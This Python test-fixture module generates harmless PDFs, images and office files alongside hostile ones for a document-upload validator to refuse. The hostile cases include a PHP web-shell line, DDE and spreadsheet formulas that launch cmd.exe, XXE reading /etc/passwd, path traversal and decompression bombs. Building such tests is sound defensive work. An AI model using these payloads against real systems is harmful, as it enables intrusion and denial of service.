"""Files as they come in, made anew for each run: harmless ones of offices, hostile ones with what should hold them."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pikepdf
from PIL import Image
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from selaras.actions.files import NAME_LIMIT, SIZE_LIMIT, Layer
from selaras.actions.flaws import Flaw
from tests.scans import pdf, scan


@dataclass(frozen=True)
class Case:
    """One file: what it is, its name, its content, and the layer and flaw for which it is refused."""

    what: str
    name: str
    content: Callable[[], bytes]
    layer: Layer | None = None
    flaw: Flaw | None = None

    def __str__(self) -> str:
        return self.what


# PDF

PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def sheet(catalogue: bytes = b"", page: bytes = b"", *more: bytes, version: str = "1.7", trailer: bytes = b"") -> bytes:
    """A PDF of one empty page, with additions to its catalogue and page, and further objects from the fourth on."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page,
        *more,
        version=version,
        trailer=trailer,
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    """An object with data."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def packed(data: bytes, more: bytes = b"") -> bytes:
    """An object with packed data."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + more)


def click(action: bytes) -> bytes:
    """A place on a page that does something when it is clicked."""
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>]" % action


def saved(content: bytes, **how: object) -> bytes:
    """A PDF as another application saves it once more."""
    out = BytesIO()
    with pikepdf.open(BytesIO(content)) as opened:
        opened.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def bomb_of_objects() -> bytes:
    """A PDF whose table of objects unpacks to half a gigabyte."""
    inner = b"<< /Type /XRef /W [1 2 1] /Size 6 /Root 1 0 R "
    body = bytearray(b"%PDF-1.7\n")
    at = len(body)
    data = zlib.compress(bytes(512 * 1024 * 1024), 9)
    body += b"1 0 obj\n%s /Filter /FlateDecode /Length %d >>\nstream\n" % (inner, len(data)) + data
    return bytes(body) + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def added_to(content: bytes) -> bytes:
    """A PDF to which a later change was appended, as when it is signed."""
    writer = IncrementalPdfFileWriter(BytesIO(content))
    writer.root["/Lang"] = writer.root.raw_get("/Type")
    writer.update_root()  # type: ignore[no-untyped-call]
    out = BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()


# Pictures


def picture(form: str, mode: str = "RGB", size: tuple[int, int] = (60, 80), **how: object) -> bytes:
    """A picture with a little in it."""
    out = BytesIO()
    made = Image.linear_gradient("L").resize(size).convert(mode)
    made.save(out, form, **how)
    return out.getvalue()


def photographed() -> bytes:
    """A photograph with what a camera notes."""
    noted = Image.Exif()
    noted[0x010F], noted[0x0112], noted[0x9003] = "Kamera", 6, "2026:11:24 09:00:00"
    return picture("JPEG", exif=noted, comment=b"Foto pintu air", quality=80)


def photographed_twice() -> bytes:
    """What a telephone writes: a photograph with a second one behind it."""
    first, second = picture("JPEG"), Image.new("RGB", (30, 40), "gray")
    out = BytesIO()
    Image.open(BytesIO(first)).save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def huge_png() -> bytes:
    """A PNG of a few kilobytes that says to have nine hundred million points."""
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(kind, data) for kind, data in ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))
    )


def chunk(kind: bytes, data: bytes) -> bytes:
    """A piece of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def many_scans() -> bytes:
    """A JPEG that asks to be drawn a thousand times."""
    whole = picture("JPEG", progressive=True)
    at = whole.rindex(b"\xff\xda")
    return whole[:at] + whole[at:-2] * 1000 + whole[-2:]


def with_chunk(data: bytes) -> bytes:
    """A PNG that carries a remark."""
    whole = picture("PNG")
    return whole[:-12] + chunk(b"tEXt", b"Comment\0" + data) + whole[-12:]


# Office documents

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SCHEMA = "http://schemas.openxmlformats.org"
OFFICE = f"{SCHEMA}/officeDocument/2006/relationships"
VND = "application/vnd.openxmlformats-officedocument"
W = f"{SCHEMA}/wordprocessingml/2006/main"
S = f"{SCHEMA}/spreadsheetml/2006/main"
Members = dict[str, str | bytes]


def zipped(members: Members, *, first: str = "") -> bytes:
    """A ZIP of these members; the one named first is kept unpacked, as ODF wants it."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data, ZIP_STORED if name == first else ZIP_DEFLATED)
    return out.getvalue()


def types(main: str, part: str, more: str = "") -> str:
    """The list of what each part is."""
    return (
        f'{XML}<Types xmlns="{SCHEMA}/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{more}</Types>'
    )


def relations(*rows: str) -> str:
    """Where a part leads: `kind target [External]`."""
    said = [row.split(" ") for row in rows]
    each = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{row[0]}" Target="{row[1]}"'
        + (f' TargetMode="{row[2]}"/>' if row[2:] else "/>")
        for n, row in enumerate(said, 1)
    )
    return f'{XML}<Relationships xmlns="{SCHEMA}/package/2006/relationships">{each}</Relationships>'


DOCX_MAIN, XLSX_MAIN = f"{VND}.wordprocessingml.document.main+xml", f"{VND}.spreadsheetml.sheet.main+xml"


def docx(body: str = "<w:p><w:r><w:t>Notula rapat</w:t></w:r></w:p>", more: Members | None = None, **how: str) -> bytes:
    """A DOCX with that body; further members come beside or instead of its own."""
    members: Members = {
        "[Content_Types].xml": types(how.get("main", DOCX_MAIN), "word/document.xml", how.get("types", "")),
        "_rels/.rels": relations("officeDocument word/document.xml"),
        "word/document.xml": f'{XML}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations("styles styles.xml"),
        "word/styles.xml": f'{XML}<w:styles xmlns:w="{W}"/>',
    }
    return zipped({**members, **(more or {})})


def led(*rows: str) -> bytes:
    """A DOCX that leads somewhere."""
    return docx(more={"word/_rels/document.xml.rels": relations("styles styles.xml", *rows)})


def xlsx(cells: str = "<c r='A1'><v>1</v></c><c r='A2'><f>SUM(A1:A1)</f></c>", more: Members | None = None) -> bytes:
    """An XLSX of one sheet."""
    members: Members = {
        "[Content_Types].xml": types(XLSX_MAIN, "xl/workbook.xml"),
        "_rels/.rels": relations("officeDocument xl/workbook.xml"),
        "xl/workbook.xml": f'{XML}<workbook xmlns="{S}"><sheets/></workbook>',
        "xl/_rels/workbook.xml.rels": relations("worksheet worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": f'{XML}<worksheet xmlns="{S}"><sheetData>{cells}</sheetData></worksheet>',
    }
    return zipped({**members, **(more or {})})


URN = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = "".join(
    f' xmlns:{name}="{URN}:{name}:1.0"' for name in ("office", "text", "table", "draw", "script", "form", "manifest")
)
SPACES += ' xmlns:xlink="http://www.w3.org/1999/xlink"'


def open_document(kind: str, body: str, more: Members | None = None, said: str = "") -> bytes:
    """An ODT ("text") or ODS ("spreadsheet") with that body."""
    type_ = f"application/vnd.oasis.opendocument.{kind}"
    entry = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{said or type_}"/>'
    content = (
        f"<office:document-content{SPACES}><office:scripts/><office:body>{body}</office:body></office:document-content>"
    )
    members: Members = {
        "mimetype": type_,
        "content.xml": XML + content,
        "meta.xml": f"{XML}<office:document-meta{SPACES}/>",
        "META-INF/manifest.xml": f"{XML}<manifest:manifest{SPACES}>{entry}</manifest:manifest>",
    }
    return zipped({**members, **(more or {})}, first="mimetype")


def odt(body: str = "<text:p>Notula</text:p>", more: Members | None = None) -> bytes:
    """An ODT."""
    return open_document("text", f"<office:text>{body}</office:text>", more)


def ods(body: str = "<table:table/>", more: Members | None = None) -> bytes:
    """An ODS."""
    return open_document("spreadsheet", f"<office:spreadsheet>{body}</office:spreadsheet>", more)


def streamed() -> bytes:
    """A DOCX as a server writes it on the fly: sizes stand behind each member."""

    class Pipe(BytesIO):
        def seekable(self) -> bool:
            return False

    whole, out = docx(), Pipe()
    with ZipFile(BytesIO(whole)) as source, ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    return out.getvalue()


def linked() -> bytes:
    """A DOCX with a member that is a link to another file."""
    out = BytesIO(docx())
    with ZipFile(out, "a") as archive:
        row = ZipInfo("word/media/image1.png")
        row.create_system, row.external_attr = 3, 0o120777 << 16
        archive.writestr(row, "/etc/passwd")
    return out.getvalue()


def encrypted_member() -> bytes:
    """A DOCX that says that its members need a password."""
    whole = bytearray(docx())
    at = 0
    while (at := whole.find(b"PK\x01\x02", at)) >= 0:
        whole[at + 8] |= 1
        at += 4
    return bytes(whole)


def twice_named() -> bytes:
    """A DOCX with two bodies, of which each reader takes another."""
    out = BytesIO(docx())
    with ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", f'{XML}<w:document xmlns:w="{W}"/>')
    return out.getvalue()


def said_smaller() -> bytes:
    """A DOCX with a member that unpacks to more than the list says."""
    whole = bytearray(docx(more={"word/media/image1.png": bytes(5000)}))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 50)
    return bytes(whole)


FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
REACH = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
METADATA = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>'

HARMLESS = (
    Case("a scan", "Surat Undangan No. 12.3 – Dinas PUPR.pdf", lambda: scan("Undangan")),
    Case(
        "PDF 1.4 as LibreOffice writes it",
        "a.pdf",
        lambda: sheet(b"/OpenAction [3 0 R /XYZ null null 0]", version="1.4"),
    ),
    Case(
        "PDF 1.5 with packed objects",
        "b.pdf",
        lambda: saved(scan(), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    Case("PDF made for quick reading", "c.pdf", lambda: saved(scan(), linearize=True)),
    Case(
        "PDF for archives",
        "d.PDF",
        lambda: sheet(
            b"/Metadata 4 0 R /OutputIntents [<< /S /GTS_PDFA1 /OutputConditionIdentifier (sRGB) >>]"
            b" /MarkInfo << /Marked true >> /Lang (id-ID)",
            b"",
            stream(METADATA, b"/Type /Metadata /Subtype /XML"),
            trailer=b"/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
        ),
    ),
    Case(
        "PDF with a form",
        "formulir.pdf",
        lambda: sheet(
            b"/AcroForm << /Fields [4 0 R] >>",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nama) /V (Contoh) /Rect [0 0 99 20] /P 3 0 R >>",
        ),
    ),
    Case(
        "PDF with links",
        "tautan.pdf",
        lambda: sheet(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
            click(b"/S /URI /URI (https://balangankab.contoh.go.id/unduh?nama=a:b)"),
        ),
    ),
    Case("PDF signed later", "bertanda tangan.pdf", lambda: added_to(scan())),
    Case("scan as PNG", "pindaian.png", lambda: picture("PNG", dpi=(300, 300))),
    Case("scan in black and white", "hitam putih.png", lambda: picture("PNG", "1")),
    Case("photograph", "IMG_20261124.JPG", photographed),
    Case("photograph with a second one", "foto.jpeg", photographed_twice),
    Case("picture for print", "cmyk.jpg", lambda: picture("JPEG", "CMYK")),
    Case("picture in scans", "progresif.jpg", lambda: picture("JPEG", progressive=True)),
    Case("letter", "surat.docx", docx),
    Case("letter written on the fly", "surat dari server.docx", streamed),
    Case(
        "letter with link, table of contents, chart and picture",
        "laporan.docx",
        lambda: docx(
            FIELD.format(" TOC ", "\\o &quot;1-3&quot; "),
            {
                "word/_rels/document.xml.rels": relations(
                    "styles styles.xml",
                    "hyperlink https://contoh.go.id/ External",
                    "hyperlink mailto:a@contoh.id External",
                ),
                "word/media/image1.png": picture("PNG"),
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
            },
        ),
    ),
    Case("table", "anggaran.xlsx", xlsx),
    Case(
        "table with words that look like formulas",
        "rekap.xlsx",
        lambda: xlsx("<c r='A1' t='str'><f>&quot;a|b&quot;&amp;Lembar1!A1</f></c><c r='A2'><f>IF(A1>0,-A1,0)</f></c>"),
    ),
    Case(
        "ODT with a link, a picture and a form field",
        "notula.odt",
        lambda: odt(
            '<text:p><text:a xlink:href="https://contoh.go.id/">situs</text:a>'
            '<draw:image xlink:href="Pictures/a.png"/><draw:control/></text:p>',
            {"Pictures/a.png": picture("PNG"), "Configurations2/accelerator/current.xml": ""},
        ),
    ),
    Case(
        "ODS",
        "hitung.ods",
        lambda: ods('<table:table><table:table-cell table:formula="of:=SUM([.A1:.A2])"/></table:table>'),
    ),
)

NAME, SIZE, BEGINNING, STRUCTURE = Layer


def inside(what: str, name: str, content: Callable[[], bytes], flaw: Flaw) -> Case:
    """A file with a good name and beginning that only its structure gives away."""
    return Case(what, name, content, STRUCTURE, flaw)


HOSTILE = (
    # Names and sizes
    Case("program", "setup.exe", lambda: b"MZ" + bytes(100), NAME),
    Case("program behind a PDF's ending", "surat.pdf.exe", scan, NAME),
    Case("PDF behind a program's ending", "surat.exe.pdf", scan, NAME),
    Case("ending hidden by blanks", "surat.js   .pdf", scan, NAME),
    Case("ending turned round", "surat\u202efdp.exe.pdf", scan, NAME),
    Case("name with a hidden mark", "su\u200brat.pdf", scan, NAME),
    Case("name with a control character", "surat\r\n.pdf", scan, NAME),
    Case("name with NUL", "surat.exe\x00.pdf", scan, NAME),
    Case("name without end", f"{'a' * NAME_LIMIT}.pdf", scan, NAME),
    Case("page", "halaman.html", lambda: b"<html>", NAME),
    Case("drawing with a script", "gambar.svg", lambda: b"<svg onload='alert(1)'/>", NAME),
    Case("document with macros by its name", "surat.docm", docx, NAME),
    Case("nothing", "kosong.pdf", bytes, SIZE),
    Case("too much", "besar.pdf", lambda: b"%PDF-" + bytes(SIZE_LIMIT), SIZE),
    # Beginnings
    Case("page called PDF", "surat.pdf", lambda: b"<html><script>alert(1)</script>", BEGINNING),
    Case("program called PNG", "logo.png", lambda: b"MZ" + bytes(100), BEGINNING),
    Case("page before a PDF", "depan.pdf", lambda: b"<script>alert(1)</script>\n" + scan(), BEGINNING),
    Case("old office document called DOCX", "lama.docx", lambda: OLE, BEGINNING),
    Case("program before a DOCX", "depan.docx", lambda: b"MZ" + bytes(64) + docx(), BEGINNING),
    Case("PNG called JPG", "foto.jpg", lambda: picture("PNG"), BEGINNING),
    # PDF
    inside("PDF with a script", "a.pdf", lambda: sheet(b"/Names << /JavaScript << /Names [] >> >>"), Flaw.SCRIPT),
    inside("PDF with a script on a click", "a.pdf", lambda: sheet(b"", click(b"/S /JavaScript /JS (x)")), Flaw.SCRIPT),
    inside(
        "PDF with a disguised script", "a.pdf", lambda: sheet(b"", click(b"/S /Java#53cript /J#53 (x)")), Flaw.SCRIPT
    ),
    inside(
        "PDF with a script in packed objects",
        "a.pdf",
        lambda: saved(
            sheet(b"", b"/Annots [<< /Subtype /Link /A 4 0 R >>]", b"<< /S /JavaScript /JS (x) >>"),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        Flaw.SCRIPT,
    ),
    inside("PDF with a living form", "a.pdf", lambda: sheet(b"/AcroForm << /Fields [] /XFA [] >>"), Flaw.SCRIPT),
    inside(
        "PDF that opens a page of the web",
        "a.pdf",
        lambda: sheet(b"/OpenAction << /S /URI /URI (http://x.id) >>"),
        Flaw.ACTION,
    ),
    inside(
        "PDF that acts on a page", "a.pdf", lambda: sheet(b"", b"/AA << /O << /S /Named /N /Print >> >>"), Flaw.ACTION
    ),
    inside("PDF that starts a program", "a.pdf", lambda: sheet(b"", click(b"/S /Launch /F (cmd.exe)")), Flaw.ACTION),
    inside(
        "PDF that opens another", "a.pdf", lambda: sheet(b"", click(b"/S /GoToR /F (\\\\\\\\x\\\\a.pdf)")), Flaw.ACTION
    ),
    inside(
        "PDF that sends a form away", "a.pdf", lambda: sheet(b"", click(b"/S /SubmitForm /F (http://x)")), Flaw.ACTION
    ),
    inside("PDF that reads in data", "a.pdf", lambda: sheet(b"", click(b"/S /ImportData /F (a.fdf)")), Flaw.ACTION),
    inside(
        "PDF with a link to a file",
        "a.pdf",
        lambda: sheet(b"", click(b"/S /URI /URI (file:///c:/a.exe)")),
        Flaw.ADDRESS,
    ),
    inside(
        "PDF with a link that is a script",
        "a.pdf",
        lambda: sheet(b"", click(b"/S /URI /URI (java\\nscript:x)")),
        Flaw.ADDRESS,
    ),
    inside(
        "PDF with a file in it",
        "a.pdf",
        lambda: sheet(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
            b"",
            stream(b"MZ", b"/Type /EmbeddedFile"),
            b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
        ),
        Flaw.ENCLOSED,
    ),
    inside("PDF with a film", "a.pdf", lambda: sheet(b"", b"/Annots [<< /Subtype /RichMedia >>]"), Flaw.ENCLOSED),
    inside(
        "PDF whose content lies elsewhere",
        "a.pdf",
        lambda: sheet(b"", b"/Contents 4 0 R", stream(b"", b"/F (http://x)")),
        Flaw.OUTSIDE,
    ),
    inside(
        "PDF with a password",
        "a.pdf",
        lambda: saved(scan(), encryption=pikepdf.Encryption(owner="a", user="b")),
        Flaw.LOCKED,
    ),
    inside(
        "PDF that is encrypted without one",
        "a.pdf",
        lambda: saved(scan(), encryption=pikepdf.Encryption(owner="a", user="")),
        Flaw.LOCKED,
    ),
    inside(
        "PDF that unpacks without end",
        "a.pdf",
        lambda: sheet(b"", b"/Contents 4 0 R", packed(bytes(90_000_000))),
        Flaw.SWOLLEN,
    ),
    inside("PDF with endless objects", "a.pdf", bomb_of_objects, Flaw.DAMAGED),
    inside("PDF nested without end", "a.pdf", lambda: sheet(b"/X " + b"[" * 5000 + b"]" * 5000), Flaw.DAMAGED),
    inside(
        "PDF packed again and again",
        "a.pdf",
        lambda: sheet(b"", b"", stream(b"x", b"/Filter [/FlateDecode /FlateDecode /FlateDecode /FlateDecode]")),
        Flaw.SWOLLEN,
    ),
    inside(
        "PDF with a picture without end",
        "a.pdf",
        lambda: sheet(b"", b"", stream(b"", b"/Subtype /Image /Width 99999 /Height 99999")),
        Flaw.SWOLLEN,
    ),
    inside(
        "PDF without pages",
        "a.pdf",
        lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
        Flaw.DAMAGED,
    ),
    inside("half a PDF", "a.pdf", lambda: scan()[:300] + b"\n%%EOF\n", Flaw.DAMAGED),
    inside("PDF with a page behind it", "a.pdf", lambda: scan() + b"<script>alert(1)</script>", Flaw.MIXED),
    inside("PDF that is a ZIP too", "a.pdf", lambda: scan() + docx() + b"\n%%EOF\n", Flaw.MIXED),
    inside("PDF with a ZIP behind it", "a.pdf", lambda: scan() + docx(), Flaw.MIXED),
    inside("PDF that begins as a page", "a.pdf", lambda: b"%PDF-1.7\n<script>x</script>\n" + scan()[9:], Flaw.MIXED),
    # Pictures
    inside("PNG without end", "a.png", huge_png, Flaw.SWOLLEN),
    inside("PNG with a DOCX behind it", "a.png", lambda: picture("PNG") + docx(), Flaw.MIXED),
    inside("PNG with a page behind it", "a.png", lambda: picture("PNG") + b"<script>alert(1)</script>", Flaw.MIXED),
    inside("PNG with a program behind it", "a.png", lambda: picture("PNG") + b"MZ" + bytes(99), Flaw.MIXED),
    inside("PNG of ninety million points", "a.png", lambda: picture("PNG", "1", (9500, 9500)), Flaw.SWOLLEN),
    inside("PNG with a script in it", "a.png", lambda: with_chunk(b"<SCRIPT>alert(1)</SCRIPT>"), Flaw.MIXED),
    inside("half a PNG", "a.png", lambda: picture("PNG", size=(500, 500))[:400], Flaw.DAMAGED),
    inside("PNG of nothing but chunks", "a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), Flaw.DAMAGED),
    inside("PNG with false checks", "a.png", lambda: picture("PNG").replace(b"IDAT", b"IDAU"), Flaw.DAMAGED),
    inside("JPEG with a program behind it", "a.jpg", lambda: picture("JPEG") + b"MZ" + bytes(99), Flaw.MIXED),
    inside(
        "JPEG with code in its remark", "a.jpg", lambda: picture("JPEG", comment=b"<?php system($_GET[0]);"), Flaw.MIXED
    ),
    inside("JPEG with a PDF in it", "a.jpg", lambda: picture("JPEG", comment=scan()), Flaw.MIXED),
    inside("JPEG drawn a thousand times", "a.jpg", many_scans, Flaw.SWOLLEN),
    inside("half a JPEG", "a.jpg", lambda: picture("JPEG", size=(500, 500))[:900], Flaw.DAMAGED),
    # Office documents
    inside("ZIP called DOCX", "a.docx", lambda: zipped({"a.txt": "a"}), Flaw.OTHER_KIND),
    inside("XLSX called DOCX", "a.docx", xlsx, Flaw.OTHER_KIND),
    inside("ODT called ODS", "a.ods", odt, Flaw.OTHER_KIND),
    inside(
        "DOCM called DOCX",
        "a.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Flaw.SCRIPT,
    ),
    inside(
        "template called DOCX",
        "a.docx",
        lambda: docx(main=f"{VND}.wordprocessingml.template.main+xml"),
        Flaw.OTHER_KIND,
    ),
    inside("DOCX with macros", "a.docx", lambda: docx(more={"word/vbaProject.bin": OLE}), Flaw.SCRIPT),
    inside("DOCX with disguised macros", "a.docx", lambda: led("vbaProject media/image1.png"), Flaw.SCRIPT),
    inside("DOCX with ActiveX", "a.docx", lambda: docx(more={"word/activeX/activeX1.xml": f"{XML}<a/>"}), Flaw.SCRIPT),
    inside("DOCX with an object", "a.docx", lambda: docx(more={"word/embeddings/oleObject1.bin": OLE}), Flaw.ENCLOSED),
    inside("DOCX with a disguised object", "a.docx", lambda: docx(more={"word/media/image1.png": OLE}), Flaw.ENCLOSED),
    inside("DOCX with a page in it", "a.docx", lambda: led("aFChunk isi.html"), Flaw.ENCLOSED),
    inside(
        "DOCX with a remote template",
        "a.docx",
        lambda: led("attachedTemplate http://x.id/a.dotm External"),
        Flaw.OUTSIDE,
    ),
    inside("DOCX with a remote picture", "a.docx", lambda: led("image https://x.id/a.png External"), Flaw.OUTSIDE),
    inside("DOCX with a link to a file", "a.docx", lambda: led("hyperlink file:///c:/a.exe External"), Flaw.ADDRESS),
    inside("DOCX with a link to another computer", "a.docx", lambda: led("hyperlink \\\\x\\a External"), Flaw.ADDRESS),
    inside("DOCX with DDE", "a.docx", lambda: docx(FIELD.format("DDEA", "UTO c:\\cmd.exe /k calc")), Flaw.OUTSIDE),
    inside("DOCX with disguised DDE", "a.docx", lambda: docx(FIELD.format(" QUOTE 68 ", "68 69 ")), Flaw.OUTSIDE),
    inside("DOCX with entities", "a.docx", lambda: docx(more={"word/document.xml": f"{DTD}<x>&b;</x>"}), Flaw.ODD),
    inside(
        "DOCX that reads a file", "a.docx", lambda: docx(more={"word/document.xml": f"{REACH}<x>&a;</x>"}), Flaw.ODD
    ),
    inside("DOCX with broken XML", "a.docx", lambda: docx("<w:p>"), Flaw.DAMAGED),
    inside("DOCX that writes elsewhere", "a.docx", lambda: docx(more={"../../a.txt": "a"}), Flaw.ODD),
    inside("DOCX that writes anywhere", "a.docx", lambda: docx(more={"/etc/a.txt": "a"}), Flaw.ODD),
    inside("DOCX with a link in its archive", "a.docx", linked, Flaw.ODD),
    inside("DOCX with a password", "a.docx", encrypted_member, Flaw.LOCKED),
    inside("DOCX with two bodies", "a.docx", twice_named, Flaw.ODD),
    inside("DOCX that says less than it holds", "a.docx", said_smaller, Flaw.SWOLLEN),
    inside(
        "DOCX that unpacks without end",
        "a.docx",
        lambda: docx(more={"word/media/a.png": bytes(9_000_000)}),
        Flaw.SWOLLEN,
    ),
    inside("DOCX of endless members", "a.docx", lambda: docx(more={f"a/{n}": "" for n in range(6000)}), Flaw.SWOLLEN),
    inside("DOCX nested without end", "a.docx", lambda: docx("<w:p>" * 900 + "</w:p>" * 900), Flaw.SWOLLEN),
    inside("DOCX with something behind it", "a.docx", lambda: docx() + b"<script>x</script>", Flaw.MIXED),
    inside("DOCX with something before it", "a.docx", lambda: b"PK\x03\x04" + bytes(60) + docx(), Flaw.MIXED),
    inside(
        "DOCX in a document in a document",
        "a.docx",
        lambda: docx(more={"word/embeddings/a.docx": docx(more={"word/embeddings/a.docx": docx()})}),
        Flaw.ENCLOSED,
    ),
    inside("XLSX that starts a program", "a.xlsx", lambda: xlsx("<c><f>cmd|'/c calc'!A0</f></c>"), Flaw.OUTSIDE),
    inside("XLSX that asks the web", "a.xlsx", lambda: xlsx('<c><f>WEBSERVICE("http://x")</f></c>'), Flaw.OUTSIDE),
    inside(
        "XLSX tied to another",
        "a.xlsx",
        lambda: xlsx(more={"xl/externalLinks/externalLink1.xml": f"{XML}<a/>"}),
        Flaw.OUTSIDE,
    ),
    inside("XLSX that fetches data", "a.xlsx", lambda: xlsx(more={"xl/connections.xml": f"{XML}<a/>"}), Flaw.OUTSIDE),
    inside(
        "XLSX with old macros", "a.xlsx", lambda: xlsx(more={"xl/macrosheets/sheet1.xml": f"{XML}<a/>"}), Flaw.SCRIPT
    ),
    inside("ODT with macros", "a.odt", lambda: odt(more={"Basic/Standard/Module1.xml": f"{XML}<a/>"}), Flaw.SCRIPT),
    inside("ODT with programs", "a.odt", lambda: odt(more={"Scripts/python/a.py": "import os"}), Flaw.SCRIPT),
    inside("ODT that acts when opened", "a.odt", lambda: odt("<script:event-listener/>"), Flaw.SCRIPT),
    inside(
        "ODT with a link that is a macro",
        "a.odt",
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:a"/>'),
        Flaw.ADDRESS,
    ),
    inside(
        "ODT with a part from outside",
        "a.odt",
        lambda: odt('<text:section-source xlink:href="../a.odt"/>'),
        Flaw.OUTSIDE,
    ),
    inside(
        "ODT with a remote picture", "a.odt", lambda: odt('<draw:image xlink:href="http://x.id/a.png"/>'), Flaw.OUTSIDE
    ),
    inside("ODT with an object", "a.odt", lambda: odt(more={"Object 1": OLE}), Flaw.ENCLOSED),
    inside("ODS with DDE", "a.ods", lambda: ods('<table:table-cell table:formula="of:=DDE(1;2;3)"/>'), Flaw.OUTSIDE),
    inside(
        "ODS that is another in its list",
        "a.ods",
        lambda: open_document("spreadsheet", "", said="text/plain"),
        Flaw.OTHER_KIND,
    ),
    inside(
        "ODT with a password",
        "a.odt",
        lambda: odt("<manifest:encryption-data/>"),
        Flaw.LOCKED,
    ),
)
